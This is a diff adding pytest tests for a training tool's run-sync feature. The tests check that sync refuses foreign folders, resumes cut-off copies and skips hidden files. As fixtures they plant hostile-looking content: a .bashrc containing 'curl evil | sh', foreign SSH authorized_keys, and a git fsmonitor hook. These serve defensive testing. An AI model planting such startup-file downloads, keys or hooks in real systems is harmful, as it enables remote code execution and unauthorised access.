@@ -1,18 +1,22 @@
 """Fetching models and whole run directories."""
 
+import itertools
+import os
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from cloud_train.errors import ConflictError, CorruptError, NotFoundError, UsageError
+from cloud_train.orchestrator import results
 from cloud_train.orchestrator.following import follow
 from cloud_train.orchestrator.home import Home
 from cloud_train.orchestrator.observing import RunView
 from cloud_train.orchestrator.results import fetch_model, sync
 from cloud_train.run import layout
 from cloud_train.run.manifest import verify
-from cloud_train.storage.transfer.files import Progress
+from cloud_train.storage.base import Store
+from cloud_train.storage.transfer.files import Download, Options, Progress, Summary, download
 from tests.orchestrator.conftest import Submit, run_folder
 
 SAVE = """\
@@ -111,10 +115,82 @@ def test_a_second_sync_copies_only_what_changed(home: Home, run: RunView, tmp_pa
     assert copy == there
     second = sync(home, run.run_id, tmp_path / "copy")
     assert (second.copied, second.unchanged) == ((), len(there))
-    (tmp_path / "copy" / layout.RUN).write_bytes(b"x" * len(there[layout.RUN]))  # the same size, and newer
+    (tmp_path / "copy" / layout.status(1)).write_bytes(b"x" * len(there[layout.status(1)]))  # the same size, and newer
     third = sync(home, run.run_id, tmp_path / "copy")
-    assert third.copied == (layout.RUN,)
-    assert (tmp_path / "copy" / layout.RUN).read_bytes() == there[layout.RUN]
+    assert third.copied == (layout.status(1),)
+    assert (tmp_path / "copy" / layout.status(1)).read_bytes() == there[layout.status(1)]
+
+
+@pytest.mark.parametrize("record", [None, b"", b"{}", b'{"run_id": "other-261130-091500-k3f9"}', b"\xff", "link", "pipe"])
+def test_a_sync_into_a_folder_that_is_no_copy_of_the_run_is_refused(
+    home: Home, run: RunView, tmp_path: Path, record: bytes | str | None
+) -> None:
+    (run_folder(run) / ".bashrc").write_text("curl evil | sh")
+    (run_folder(run) / ".ssh").mkdir()
+    (run_folder(run) / ".ssh" / "authorized_keys").write_text("theirs")
+    mine = tmp_path / "mine"
+    (mine / ".ssh").mkdir(parents=True)
+    (mine / ".bashrc").write_text("mine")
+    (mine / ".ssh" / "authorized_keys").write_text("mine")
+    if isinstance(record, bytes):
+        (mine / layout.RUN).write_bytes(record)
+    elif record == "link":
+        (mine / layout.RUN).symlink_to(run_folder(run) / layout.RUN)
+    elif record == "pipe":
+        os.mkfifo(mine / layout.RUN)
+    names = sorted(path.name for path in mine.iterdir())
+    with pytest.raises(ConflictError, match=r"mine is not empty, and is not a copy of") as raised:
+        sync(home, run.run_id, mine)
+    assert (raised.value.exit_code, raised.value.hint) == (9, "name an empty or a new folder with --to")
+    assert sorted(path.name for path in mine.iterdir()) == names
+    assert {path.read_text() for path in (mine / ".bashrc", mine / ".ssh" / "authorized_keys")} == {"mine"}
+
+
+def test_a_sync_into_a_file_is_refused(home: Home, run: RunView, tmp_path: Path) -> None:
+    (tmp_path / "mine").write_text("mine")
+    with pytest.raises(ConflictError, match="mine cannot be copied into: Not a directory"):
+        sync(home, run.run_id, tmp_path / "mine")
+
+
+def test_a_sync_into_an_empty_folder_or_one_with_what_a_cut_copy_leaves_is_a_first_one(home: Home, run: RunView, tmp_path: Path) -> None:
+    (tmp_path / "copy").mkdir()
+    (tmp_path / "copy" / ".cloud-train-abcd").write_bytes(b"half of a ru")
+    assert layout.RUN in sync(home, run.run_id, tmp_path / "copy").copied
+
+
+@pytest.mark.parametrize("whole", [0, 1, 2])
+def test_a_copy_that_was_cut_off_is_continued(
+    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int
+) -> None:
+    calls = itertools.count()
+
+    def cut(store: Store, files: list[Download], options: Options) -> Summary:
+        if next(calls) == whole:
+            raise KeyboardInterrupt
+        return download(store, files, options)
+
+    monkeypatch.setattr(results, "download", cut)
+    with pytest.raises(KeyboardInterrupt):
+        sync(home, run.run_id, tmp_path / "copy")
+    monkeypatch.undo()
+    assert (tmp_path / "copy" / layout.RUN).exists() is (whole > 0)  # which goes first, and alone
+    assert (tmp_path / "copy" / layout.status(1)).exists() is (whole > 1)
+    assert (layout.RUN in sync(home, run.run_id, tmp_path / "copy").copied) is (whole == 0)
+    assert sync(home, run.run_id, tmp_path / "copy").copied == ()
+
+
+def test_hidden_objects_at_the_top_of_a_run_are_not_copied(home: Home, run: RunView, tmp_path: Path) -> None:
+    config = run_folder(run) / ".git" / "config"
+    config.parent.mkdir()
+    config.write_text("[core]\n\tfsmonitor = evil\n")
+    (run_folder(run) / ".envrc").write_text("evil")
+    (run_folder(run) / "attempts" / "1" / ".kept").write_text("the program's own")
+    synced = sync(home, run.run_id, tmp_path / "copy")
+    assert not [path for path in (tmp_path / "copy").iterdir() if path.name.startswith(".")]
+    assert {(key.partition("/")[2], why) for key, why in synced.skipped} == {
+        (name, "it is hidden, and no part of a run is") for name in (".git/config", ".envrc")
+    }
+    assert (tmp_path / "copy" / "attempts" / "1" / ".kept").exists()
 
 
 def test_a_sync_verifies_what_a_manifest_vouches_for(home: Home, run: RunView, tmp_path: Path) -> None:
